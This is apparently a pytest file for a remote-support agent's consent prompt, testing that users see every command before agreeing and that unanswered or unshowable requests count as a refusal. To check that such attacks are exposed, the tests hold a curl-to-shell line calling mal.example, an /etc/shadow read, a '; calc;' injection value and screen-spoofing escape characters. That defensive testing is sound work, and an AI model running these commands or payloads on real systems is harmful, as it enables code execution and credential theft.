"""Asking at the machine itself: in a terminal, in a window, or not at all."""

from __future__ import annotations

import asyncio
import os
import re
import secrets
import sys
import uuid
from collections.abc import Iterator

import pytest
from xvfb_parts import click, display, x

from compagnon_agent import consent, execute
from compagnon_agent.consent import Reply
from compagnon_agent.desk.core import Desk
from compagnon_agent.protocol.checks import parse_checks
from compagnon_agent.protocol.manifest import Command, Manifest, ManifestStep, RunOn, Shell
from compagnon_agent.protocol.messages import (
    Cancel,
    ConsentAnswer,
    ConsentSource,
    EndReason,
    OpenSession,
    SessionEnded,
    StepState,
)
from compagnon_agent.protocol.parameters import Parameter, ParameterType
from compagnon_agent.protocol.wire import dumps, write_record
from compagnon_agent.question import TooLong, question


def asked(make, manifest=None, **fields):
    return question(make.consent(manifest or make.manifest("lpstat -r"), **fields), 1800)


def test_it_says_who_what_why_and_how_long(make):
    text = asked(make)
    assert text.heading == "Alice (Coop) demande votre accord"
    assert "Ticket 7 : Rien ne s'imprime" in text.lines
    assert "Motif : Réparer l'imprimante" in text.lines
    assert "Quoi : suivre la procédure tst-001, version 1" in text.lines
    assert "« Essai » (1 étape, risque : moyen)" in text.lines
    assert "Durée : 30 minutes au plus" in text.lines
    assert text.code == "Comparez ce code de vive voix : 4821"
    assert any("$ lpstat -r" in line for line in text.details)
    english = asked(make, locale="en", cooperative="")
    assert english.heading == "Alice asks for your agreement"
    session = question(make.consent(session_id="ab" * 16), 60)
    assert "Quoi : travailler dans un terminal sur cet ordinateur" in session.lines
    assert any("enregistré" in note for note in session.notes)


def test_details_show_what_would_really_run(make):
    steps = (
        ManifestStep(
            id="s1",
            title="Ping",
            commands=(
                Command(shell=Shell.SH, script="ping {{ip}}\necho fin"),
                Command(shell=Shell.SH, script="regarder", run_on=RunOn.TECHNICIAN),
            ),
            rollback=(Command(shell=Shell.SH, script="annuler"),),
        ),
    )
    ip = Parameter(name="ip", type=ParameterType.IPV4)
    manifest = Manifest(procedure="r", version=1, title="R", parameters=(ip,), steps=steps)
    known = question(make.consent(manifest, parameters={"ip": "1.2.3.4"}), 60).details
    assert known == (
        "Étape s1 : Ping",
        "    $ ping '1.2.3.4'",
        "      echo fin",
        "    (à la main, par le technicien)",
        "    $ regarder",
        "    (pour revenir en arrière)",
        "    $ annuler",
    )
    unknown = question(make.consent(manifest), 60).details
    assert "    $ ping {{ip}}" in unknown


def test_details_hold_every_command_and_every_check_whole(make):
    evil = "curl -s http://mal.example/" + "x" * 500 + " | sh"
    checks = parse_checks(
        {
            "command": {"rassurant": {"exec": f"true\n{evil}", "title": "Vérifie l'heure"}, "lpstat -r": {}},
            "file": {"/etc/shadow": {"contents": ["/^root/"], "title": "Le poste va bien"}},
        }
    )
    result = parse_checks({"command": {"touch {{nom}}": {"title": "Tout va bien", "exit-status": 3}}})
    manifest = Manifest(
        procedure="r",
        version=1,
        title="R",
        parameters=(Parameter(name="nom", type=ParameterType.TEXT),),
        steps=(ManifestStep(id="s1", title="a", checks=checks),),
        result=result,
    )
    details = question(make.consent(manifest, parameters={"nom": "d'un"}), 60).details
    assert max(map(len, details)) < 120
    whole = "".join(line.removeprefix("    ↳ ") for line in details)
    for said in (evil, "lpstat -r", "file /etc/shadow", "/^root/", "touch 'd'\"'\"'un'", '"exit-status": 3'):
        assert said in whole
    assert "Résultat de la procédure" in details


def test_details_show_what_hides_in_a_script(make):
    hidden = "echo a\u202eb\x1b[2K\x0bc\u00a0d\u200b\ttab   # (à la main, par le technicien)"
    assert asked(make, manifest=make.manifest(hidden)).details[1:] == (
        "    $ echo a<U+202E>b<U+001B>[2K<U+000B>c<U+00A0>d<U+200B>    tab   # (à la main, par le technicien)",
    )


def test_the_values_in_a_check_are_quoted_for_this_machines_shell(make, monkeypatch):
    step = ManifestStep(id="s1", title="a", checks=parse_checks({"command": {"Test-Path {{nom}}": {}}}))
    name = Parameter(name="nom", type=ParameterType.TEXT)
    manifest = Manifest(procedure="r", version=1, title="R", parameters=(name,), steps=(step,))
    asking = make.consent(manifest, parameters={"nom": "x\u2019; calc; \u2018"})
    assert "    $ Test-Path 'x\u2019; calc; \u2018'" in question(asking, 60).details
    monkeypatch.setattr(execute, "CHECK_SHELL", Shell.POWERSHELL)
    assert "    $ Test-Path 'x\u2019\u2019; calc; \u2018\u2018'" in question(asking, 60).details


@pytest.mark.parametrize("scripts", [["\n" * 3000 + "reboot"], ["a\n" * 300] * 10])
async def test_what_is_too_long_to_be_shown_is_answered_no(runner, speaking_server, make, scripts):
    manifest = make.manifest(*scripts)
    with pytest.raises(TooLong):
        question(make.consent(manifest), 60)
    runner.policy('mode = "attended"\n')
    await runner.start()
    await speaking_server.connected()
    await speaking_server.send(make.consent(manifest))
    answer = await speaking_server.expect(ConsentAnswer)
    assert (answer.granted, "too long to be shown" in answer.reason) == (False, True)


def test_hostile_text_cannot_draw_on_the_screen(make):
    text = asked(
        make, member_name="\x1b[2JEve\u202e\r\n", ticket_title="a\nb\x07", reason="x" * 500, short_code="1\x1b2"
    )
    everything = "".join((text.heading, *text.lines, text.code))
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e]", everything)
    assert max(map(len, text.lines)) < 400


async def test_without_screen_or_terminal_the_answer_is_no(make, monkeypatch):
    monkeypatch.setattr(consent, "has_display", lambda: False)
    monkeypatch.setattr(consent, "has_terminal", lambda: False)
    assert await consent.ask(asked(make), Desk()) == Reply(granted=False, reason="nobody can be asked here")


async def test_a_display_that_does_not_work_is_no_yes(make, monkeypatch):
    monkeypatch.setenv("DISPLAY", ":4711")
    monkeypatch.delenv("WAYLAND_DISPLAY", raising=False)
    monkeypatch.setattr(consent, "has_terminal", lambda: False)
    reply = await consent.ask(asked(make), Desk())
    assert (reply.granted, reply.reason) == (False, "nobody can be asked here")


# -- the agent's own terminal -----------------------------------------------------------------------------------------


async def test_a_yes_in_the_terminal(speaking_server, terminal, make, tmp_path):
    marker = tmp_path / "ran"
    manifest = make.manifest(f"touch {marker}")
    await speaking_server.send(make.consent(manifest))
    await terminal.shows("Comparez ce code de vive voix : 4821")
    await terminal.shows("[o] je donne mon accord")
    terminal.type("peut-être\n")
    await terminal.shows("[o] je donne mon accord", times=2)
    terminal.type("d\n")
    await terminal.shows(f"$ touch {marker}")
    await terminal.shows("[o] je donne mon accord", times=3)
    assert not [item for item in speaking_server.inbox if isinstance(item, ConsentAnswer)]
    terminal.type("o\n")
    answer = await speaking_server.expect(ConsentAnswer)
    assert (answer.granted, answer.source) == (True, ConsentSource.TERMINAL)
    assert answer.until is not None
    await speaking_server.send(make.execute(manifest))
    result = await speaking_server.until(
        lambda: next((item for item in speaking_server.inbox if item.TYPE == "step_result"), None)
    )
    assert result.state is StepState.DONE
    assert marker.exists()


async def test_what_was_typed_before_the_question_is_no_answer(speaking_server, terminal, make):
    terminal.type("o\no\no\n")
    await speaking_server.send(make.consent(make.manifest("true"), wait=5))
    await terminal.shows("[o] je donne mon accord")
    answer = await speaking_server.expect(ConsentAnswer)
    assert (answer.granted, answer.reason) == (False, "nobody answered in time")


async def test_a_no_in_the_terminal(speaking_server, terminal, make):
    await speaking_server.send(make.consent(make.manifest("true")))
    await terminal.shows("je refuse")
    terminal.type("n\n")
    answer = await speaking_server.expect(ConsentAnswer)
    assert (answer.granted, answer.source) == (False, ConsentSource.TERMINAL)
    assert "refused" in answer.reason


async def test_no_answer_is_no(speaking_server, terminal, make):
    await speaking_server.send(make.consent(make.manifest("true"), wait=5))
    answer = await speaking_server.expect(ConsentAnswer)
    assert (answer.granted, answer.reason) == (False, "nobody answered in time")


async def test_a_withdrawn_question_is_answered_no_and_the_next_one_is_asked(speaking_server, terminal, make):
    first, second = make.consent(make.manifest("true")), make.consent(session_id="cd" * 16)
    await speaking_server.send(first)
    await speaking_server.send(second)
    await terminal.shows("suivre la procédure")
    assert "travailler dans un terminal" not in terminal.text
    await speaking_server.send(Cancel(id=first.request_id))
    answer = await speaking_server.expect(ConsentAnswer)
    assert (answer.request_id, answer.granted) == (first.request_id, False)
    await terminal.shows("travailler dans un terminal")
    await terminal.shows("[o] je donne mon accord", times=2)
    terminal.type("o\n")
    answer = await speaking_server.expect(ConsentAnswer)
    assert (answer.request_id, answer.granted) == (second.request_id, True)


# -- a desktop --------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def screen_name() -> Iterator[str]:
    with display("1024x768x24") as name:
        yield name


@pytest.mark.parametrize(("from_right", "granted"), [(190, True), (60, False)])
async def test_the_dialogs_buttons(screen_name, make, monkeypatch, from_right, granted):
    monkeypatch.setenv("DISPLAY", screen_name)
    asking = asyncio.create_task(consent.ask(asked(make), Desk()))
    await click(screen_name, "votre accord est", from_right, 34)
    reply = await asyncio.wait_for(asking, 20)
    assert (reply.granted, reply.source) == (granted, ConsentSource.DIALOG)


async def test_the_dialogs_details(screen_name, make, tmp_path):
    """The real window, its real buttons, pressed from inside."""
    script = tmp_path / "press.py"
    script.write_text(
        "import sys\n"
        "from tkinter import ttk, scrolledtext\n"
        "from compagnon_agent.dialog import Dialog\n"
        "from compagnon_agent.protocol.wire import loads, record\n"
        "from compagnon_agent.question import Question\n"
        "dialog = Dialog(record(Question).read(loads(sys.stdin.read(), limit=10**6), ''))\n"
        "def walk(widget):\n"
        "    yield widget\n"
        "    for child in widget.winfo_children():\n"
        "        yield from walk(child)\n"
        "def press():\n"
        "    buttons = {str(w.cget('text')): w for w in walk(dialog.root) if isinstance(w, ttk.Button)}\n"
        "    buttons['Montrer les détails'].invoke()\n"
        "    dialog.root.update()\n"
        "    boxes = [w for w in walk(dialog.root) if isinstance(w, scrolledtext.ScrolledText)]\n"
        "    print(boxes[0].get('1.0', 'end'))\n"
        "    dialog.root.event_generate('<Escape>')\n"
        "dialog.root.after(300, press)\n"
        "dialog.root.mainloop()\n"
        "print(dialog.answer)\n"
    )
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        str(script),
        env={**os.environ, "DISPLAY": screen_name},
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
    )
    source = dumps(write_record(asked(make))).encode()
    output, _ = await asyncio.wait_for(process.communicate(source), 20)
    assert "$ lpstat -r" in output.decode()
    assert output.decode().split()[-1] == "no"


async def test_an_agent_on_a_desktop_asks_there_and_shows_its_banner(screen_name, speaking_server, runner, make):
    runner.policy('mode = "attended"\n')
    runner.extra["DISPLAY"] = screen_name
    await runner.start()
    await speaking_server.connected()
    session_id = secrets.token_hex(16)
    await speaking_server.send(make.consent(session_id=session_id, request_id=str(uuid.uuid4())))
    await click(screen_name, "votre accord est", 190, 34)
    answer = await speaking_server.expect(ConsentAnswer)
    assert (answer.granted, answer.source) == (True, ConsentSource.DIALOG)
    who = {"ticket_id": 7, "member_id": 1, "member_name": "Alice", "reason": "Voir"}
    await speaking_server.send(OpenSession(session_id=session_id, **who))
    await speaking_server.until(lambda: speaking_server.terminals.get(session_id))
    await click(screen_name, "^Compagnon$", 45, 25)
    ended = await speaking_server.expect(SessionEnded)
    assert ended.reason is EndReason.CLIENT


async def test_a_withdrawn_question_closes_its_window(screen_name, make, monkeypatch):
    monkeypatch.setenv("DISPLAY", screen_name)
    asking = asyncio.create_task(consent.ask(asked(make), Desk()))
    await x(screen_name, "search", "--sync", "--onlyvisible", "--name", "votre accord est")
    asking.cancel()
    with pytest.raises(asyncio.CancelledError):
        await asking
    async with asyncio.timeout(5):
        while await x(screen_name, "search", "--onlyvisible", "--name", "votre accord est"):
            await asyncio.sleep(0.05)
